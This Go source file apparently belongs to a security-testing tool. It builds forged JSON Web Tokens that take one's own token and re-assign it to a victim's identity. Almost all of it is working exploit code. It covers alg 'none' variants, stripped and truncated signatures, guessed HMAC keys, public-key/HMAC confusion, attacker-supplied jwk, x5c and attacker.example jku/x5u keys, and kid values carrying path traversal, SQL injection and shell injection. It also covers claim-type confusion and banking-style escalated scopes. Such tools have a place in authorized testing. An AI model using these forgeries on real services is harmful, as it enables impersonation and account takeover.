package forge

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"math/big"
	"time"

	"github.com/go-jose/go-jose/v4"
)

// Forgery is a token that the issuer did not make.
type Forgery struct {
	What  string // for people
	Token string
}

// For makes forgeries of a token of one's own that say that it is somebody else's. The
// certificate is the server's, whose public key everybody has.
//
//keyladder:code forge
func For(victim, own string, server *x509.Certificate) ([]Forgery, error) {
	t, err := read(own)
	if err != nil {
		return nil, err
	}
	keys, err := newKeys()
	if err != nil {
		return nil, err
	}
	f := &forger{own: t, claims: t.claims.with(object{"sub": victim}), keys: keys}
	f.withoutSignature()
	f.underTheOwnSignature()
	f.withGuessedKeys()
	f.withThePublicKey(server)
	f.withOwnKeys()
	f.withTricksOfKid()
	f.withOtherClaims()
	if err := f.ofOtherKinds(); err != nil {
		return nil, err
	}
	return f.made, nil
}

type forger struct {
	own    token
	claims object // of the own token, but with the victim as its subject
	keys   *keys
	made   []Forgery
}

func (f *forger) add(token, what string, values ...any) {
	f.made = append(f.made, Forgery{fmt.Sprintf(what, values...), token})
}

// withoutSignature is for servers that take the algorithm from the token, and know "none" (RFC
// 7518, section 3.6) in one of its spellings, or that forbid it in another.
func (f *forger) withoutSignature() {
	for _, none := range []string{"none", "None", "NONE", "nOnE", ""} {
		f.add(unsigned(f.own.header.with(object{"alg": none}), f.claims)+".", "alg %q, and no signature", none)
	}
	header := f.own.header.with(object{"alg": "none"})
	f.add(unsigned(header, f.claims)+"."+f.own.signature, "alg none, and the own token's signature")
	f.add(unsigned(header, f.claims), "alg none, and no third part")
	f.add(unsigned(f.own.header.with(object{"alg": nil}), f.claims)+".", "no alg, and no signature")
	f.add(unsigned(f.own.header, f.claims)+".", "the issuer's algorithm, and no signature")
}

// underTheOwnSignature is for servers that read a token and do not verify it.
func (f *forger) underTheOwnSignature() {
	keep := func(header, claims fmt.Stringer) string { return unsigned(header, claims) + "." + f.own.signature }
	f.add(keep(f.own.header, f.claims), "another sub under the own token's signature")
	for name, value := range map[string]any{
		"exp": time.Now().AddDate(10, 0, 0).Unix(), "scope": "accounts:read transfers:write accounts:freeze", "client_id": "harbour-ops",
	} {
		f.add(keep(f.own.header, f.claims.with(object{name: value})), "another sub and %s under the own token's signature", name)
	}
	victim := fmt.Sprint(f.claims["sub"])
	f.add(keep(f.own.header, text(f.own.claims.twice("sub", victim, true))), "sub twice under the own token's signature, the other one last")
	f.add(keep(f.own.header, text(f.own.claims.twice("sub", victim, false))), "sub twice under the own token's signature, the other one first")
	f.add(keep(f.own.header.with(object{"alg": "hs256"}), f.claims), "alg in small letters, and the own token's signature")
	short := f.own.signature[:len(f.own.signature)/2]
	f.add(unsigned(f.own.header, f.claims)+"."+short, "half of the own token's signature")
	f.add(keep(f.own.header, f.claims)+"=", "padding after the own token's signature")
	f.add(keep(f.own.header, f.claims)+"."+f.own.signature, "a fourth part")
	f.add(keep(f.own.header, f.claims)+".", "a fourth part with nothing in it")
}

// withGuessedKeys is for servers whose key is a word, or nothing (RFC 8725, section 2.2).
func (f *forger) withGuessedKeys() {
	for _, key := range []string{"", "secret", "password", "changeme", "harbourbank", fmt.Sprint(f.claims["iss"]), fmt.Sprint(f.claims["client_id"])} {
		f.add(signed(f.own.header, f.claims, mac(sha256.New, []byte(key))), "signed with the guessed key %q", key)
	}
	f.add(signed(f.own.header.with(object{"alg": "HS384"}), f.claims, mac(sha512.New384, nil)), "HS384 with an empty key")
	f.add(signed(f.own.header.with(object{"alg": "HS512"}), f.claims, mac(sha512.New, nil)), "HS512 with an empty key")
}

// withThePublicKey is for servers that have one function to verify with, for MACs and
// signatures alike: the public key becomes the key of a MAC (RFC 8725, section 2.1).
func (f *forger) withThePublicKey(server *x509.Certificate) {
	public := server.RawSubjectPublicKeyInfo
	for what, key := range map[string][]byte{
		"public key in DER":  public,
		"public key in PEM":  pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: public}),
		"certificate in DER": server.Raw,
		"certificate in PEM": pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Raw}),
	} {
		f.add(signed(f.own.header, f.claims, mac(sha256.New, key)), "a MAC whose key is the server's %s", what)
	}
}

// withOwnKeys is for servers that verify with the key that a token brings along, or that do
// not look which algorithm their key is for (RFC 8725, sections 3.1 and 3.10).
func (f *forger) withOwnKeys() {
	es := f.own.header.with(object{"alg": "ES256"})
	f.add(signed(es, f.claims, f.keys.es256), "ES256 under a key of one's own")
	f.add(signed(f.own.header.with(object{"alg": "RS256"}), f.claims, f.keys.rs256), "RS256 under a key of one's own")
	f.add(signed(es, f.claims, func(string) []byte { return make([]byte, 64) }), "ES256 with a signature of zeros")
	for name, value := range map[string]any{
		"jwk": f.keys.jwk(), "x5c": []string{f.keys.certificate},
		"jku": "https://attacker.example/keys.json", "x5u": "https://attacker.example/key.pem",
	} {
		f.add(signed(es.with(object{name: value, "kid": "own"}), f.claims, f.keys.es256), "ES256 under a key of one's own, with %s", name)
	}
	symmetric := object{"kty": "oct", "k": encode([]byte("a key of one's own, long enough.")), "alg": "HS256"}
	f.add(signed(f.own.header.with(object{"jwk": symmetric}), f.claims, mac(sha256.New, []byte("a key of one's own, long enough."))), "HS256 under a key that comes along as jwk")
}

// withTricksOfKid is for servers that look a key up by what stands in the token (RFC 8725,
// section 3.10).
func (f *forger) withTricksOfKid() {
	for _, trick := range []struct {
		kid any
		key string
	}{
		{"../../../../../../dev/null", ""},
		{"/proc/sys/kernel/ostype", "Linux\n"},
		{"x' UNION SELECT 'secret", "secret"},
		{`"; true #`, ""},
		{"", ""},
		{nil, ""},
		{0, ""},
		{[]string{"a", "b"}, ""},
	} {
		f.add(signed(f.own.header.with(object{"kid": trick.kid}), f.claims, mac(sha256.New, []byte(trick.key))), "kid %v", trick.kid)
	}
}

// withOtherClaims is for servers that take a claim that is missing, or of another type, for one
// that allows.
func (f *forger) withOtherClaims() {
	guess := mac(sha256.New, nil)
	for _, name := range []string{"iss", "aud", "exp", "iat", "jti", "client_id", "scope"} {
		f.add(signed(f.own.header, f.claims.with(object{name: nil}), guess), "without %s, under an empty key", name)
	}
	for _, changed := range []object{
		{"aud": []string{}},
		{"aud": ""},
		{"aud": []any{fmt.Sprint(f.claims["aud"]), "https://attacker.example"}},
		{"iss": "https://attacker.example"},
		{"iss": fmt.Sprint(f.claims["iss"]) + "-2"}, // that of another stage is beside this one
		{"iss": []any{f.claims["iss"]}},
		{"iat": "0"},
		{"jti": 1},
		{"client_id": []any{f.claims["client_id"]}},
		{"scope": []any{f.claims["scope"]}},
		{"exp": "9999999999"},
		{"exp": true},
		{"sub": []string{fmt.Sprint(f.claims["sub"])}},
		{"nbf": -1},
	} {
		f.add(signed(f.own.header, f.claims.with(changed), guess), "with %s, under an empty key", changed)
	}
}

// ofOtherKinds is for servers that do not tell kinds of tokens apart (RFC 8725, sections 3.11
// and 3.12).
func (f *forger) ofOtherKinds() error {
	for _, typ := range []any{"JWT", "rt+jwt", "dpop+jwt", nil} {
		f.add(unsigned(f.own.header.with(object{"typ": typ}), f.claims)+"."+f.own.signature, "typ %v", typ)
	}
	f.add(unsigned(f.own.header.with(object{"crit": []string{"b64"}, "b64": false}), f.claims)+"."+f.own.signature, "crit and b64, of RFC 7797")
	f.add(unsigned(f.own.header.with(object{"zip": "DEF"}), f.claims)+"."+f.own.signature, "zip")
	for what, recipient := range map[string]jose.Recipient{
		"dir":                {Algorithm: jose.DIRECT, Key: make([]byte, 32)},
		"PBES2-HS256+A128KW": {Algorithm: jose.PBES2_HS256_A128KW, Key: []byte("secret"), PBES2Count: 1000},
	} {
		encrypter, err := jose.NewEncrypter(jose.A256GCM, recipient, (&jose.EncrypterOptions{}).WithType("at+jwt"))
		if err != nil {
			return fmt.Errorf("encrypt a token: %w", err)
		}
		made, err := encrypter.Encrypt([]byte(f.claims.String()))
		if err != nil {
			return fmt.Errorf("encrypt a token: %w", err)
		}
		compact, err := made.CompactSerialize()
		if err != nil {
			return fmt.Errorf("encrypt a token: %w", err)
		}
		f.add(compact, "encrypted instead of signed, with %s", what)
	}
	return nil
}

// keys are one's own.
type keys struct {
	ec          *ecdsa.PrivateKey
	rsa         *rsa.PrivateKey
	certificate string // of the first, in base64
}

func newKeys() (*keys, error) {
	ec, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return nil, err
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "localhost"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, ec.Public(), ec)
	if err != nil {
		return nil, err
	}
	return &keys{ec: ec, rsa: rsaKey, certificate: base64.StdEncoding.EncodeToString(der)}, nil
}

func (k *keys) jwk() any {
	return jose.JSONWebKey{Key: k.ec.Public(), KeyID: "own", Algorithm: "ES256"}
}

func (k *keys) es256(text string) []byte {
	sum := sha256.Sum256([]byte(text))
	r, s, err := ecdsa.Sign(rand.Reader, k.ec, sum[:])
	if err != nil {
		panic(err) // of a good key: never
	}
	signature := make([]byte, 64)
	r.FillBytes(signature[:32])
	s.FillBytes(signature[32:])
	return signature
}

func (k *keys) rs256(text string) []byte {
	sum := sha256.Sum256([]byte(text))
	signature, err := rsa.SignPKCS1v15(rand.Reader, k.rsa, crypto.SHA256, sum[:])
	if err != nil {
		panic(err) // of a good key: never
	}
	return signature
}
